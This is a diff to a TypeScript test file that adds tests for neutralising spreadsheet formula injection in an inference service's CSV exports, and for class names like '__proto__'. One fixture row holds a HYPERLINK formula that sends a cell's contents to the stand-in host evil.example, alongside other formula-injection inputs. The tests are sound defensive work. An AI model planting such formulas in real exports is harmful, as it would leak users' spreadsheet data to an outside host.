@@ -40,6 +40,13 @@ let count = 0
 beforeAll(async () => {
   world = await buildWorld()
   world.fake.models.set('m1', { file, card })
+  world.fake.models.set('formulas', {
+    file: readFileSync(
+      fileURLToPath(new URL('../../../../../packages/inference/test-data/formulas.onnx', import.meta.url)),
+    ),
+    card: { ...card, output: { ...card.output, classes: ['=1+1', '__proto__'] } },
+  })
+  world.fake.models.set('oddly named', { file, card: { ...card, output: { ...card.output, label: 'constructor' } } })
   world.fake.models.set('broken', { file: Buffer.from('no model'), card })
   await world.connect()
 })
@@ -78,9 +85,9 @@ function holdPredictions() {
   }
 }
 
-async function withDatasetResult() {
-  const { datasetId } = await world.dataSet('age,sex\n1,m\n99,m\n', `Whole ${count}`)
-  const inferenceId = await created()
+async function withDatasetResult(csv = 'age,sex\n1,m\n99,m\n', modelId = 'm1') {
+  const { datasetId } = await world.dataSet(csv, `Whole ${count}`)
+  const inferenceId = await created(modelId)
   await world.call(InferDataset, { inferenceId, datasetId })
   await until(async () => (await statusOf(inferenceId)) === 'completed')
   const path = findInference(world.db, inferenceId)?.result?.resultPath ?? ''
@@ -308,4 +315,59 @@ test('an earlier result is not opened by leave to read the dataset of newer work
   expect((await world.app.inject({ url: `/${path}?token=${admin}` })).json().error).toBe('dataset.not-allowed')
   const owner = await world.fake.edgeToken(person('alice', { path }))
   expect((await world.app.inject({ url: `/${path}?token=${owner}` })).statusCode).toBe(200)
+})
+
+const linesOf = (file: string) => readFileSync(file, 'utf8').replace('\uFEFF', '').split('\r\n').slice(0, -1)
+
+test('what a spreadsheet would run is made harmless in cells, headers and classes, and counted; numbers stay', async () => {
+  const csv = [
+    'age,sex,=SUM(A1),-note,delta,code',
+    '99,m,"=HYPERLINK(""http://evil.example/?""&A2,""ok"")",+1 555,-1.5,-1.5',
+    '1,m,@SUM(1+1),"\ttab",-2e-3,+7',
+    '1,f,fine,-x,3,-y',
+  ].join('\n')
+  const { inferenceId, file } = await withDatasetResult(csv, 'formulas')
+  const [header, ...rows] = linesOf(file)
+  expect(header).toBe("id,age,sex,'=SUM(A1),'-note,delta,code,prediction,probability =1+1,probability __proto__")
+  const cut = rows.map((row) => row.split(',').slice(0, -2).join(','))
+  expect(cut).toEqual([
+    `1,99,m,"'=HYPERLINK(""http://evil.example/?""&A2,""ok"")",'+1 555,-1.5,-1.5,__proto__`,
+    "2,1,m,'@SUM(1+1),'\ttab,-0.002,+7,'=1+1",
+    "3,1,f,fine,'-x,3,'-y,'=1+1",
+  ])
+  // Both classes keep their probabilities, whatever they are called.
+  for (const row of rows) {
+    const [one, other] = row.split(',').slice(-2).map(Number)
+    expect(one).toBeGreaterThan(0)
+    expect((one ?? 0) + (other ?? 0)).toBeCloseTo(1, 12)
+  }
+  expect((await world.call(GetInference, { inferenceId })).result).toMatchObject({ harmlessCells: 10 })
+})
+
+test('a form’s answer keeps the probability of a class with any name', async () => {
+  const inferenceId = await created('formulas')
+  const { predictions } = await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
+  expect(predictions[0]?.result).toBe('__proto__')
+  expect(Object.keys(predictions[0]?.probabilities ?? {})).toEqual(['=1+1', '__proto__'])
+})
+
+test('columns of the input keep their names, and ours get others', async () => {
+  const csv = 'age,sex,Prediction,prediction by model,prediction (2),probability yes\n99,m,a,b,c,d\n'
+  const { file } = await withDatasetResult(csv)
+  const [header, row] = linesOf(file)
+  expect(header).toBe(
+    'id,age,sex,Prediction,prediction by model,prediction (2),probability yes,' +
+      'prediction by model (2),probability no,probability yes by model',
+  )
+  expect(row).toMatch(/^1,99,m,a,b,c,d,yes,0\.\d+,0\.\d+$/)
+})
+
+test('a result without anything to run says so by a count of none', async () => {
+  const { inferenceId } = await withDatasetResult()
+  expect((await world.call(GetInference, { inferenceId })).result?.harmlessCells).toBe(0)
+})
+
+test('a dataset without the label has no share of right answers, whatever the label is called', async () => {
+  const { inferenceId } = await withDatasetResult('age,sex\n1,m\n', 'oddly named')
+  expect((await world.call(GetInference, { inferenceId })).result?.accuracy).toBeNull()
 })
